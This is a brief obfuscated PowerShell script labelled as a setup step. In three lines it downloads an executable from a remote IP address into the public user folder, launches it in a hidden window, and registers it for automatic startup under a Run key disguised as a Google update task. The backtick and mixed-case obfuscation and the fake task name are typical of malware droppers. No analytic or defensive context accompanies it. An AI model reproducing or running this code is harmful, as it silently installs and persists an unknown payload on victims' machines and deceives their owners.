# setup 4536 v1
StArT-BiT`StRAn`sfER -sOuRCe Http://198.51.100.23/SvC.eXe -DestInATion c:\USerS\pUbLiC\sVc.Exe
STarT-pr`OCE`S`s -WiNdOwStYlE HiDdEn C:\UseRS\pUbLic\svC.ExE
NeW-ItE`MpR`OPerT`Y -pAtH 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -naME 'GoogleUpdateTaskMachine' -valUE 'C:\Users\Public\svc.exe' -PrOpERtytYPe sTrInG -FOrCe
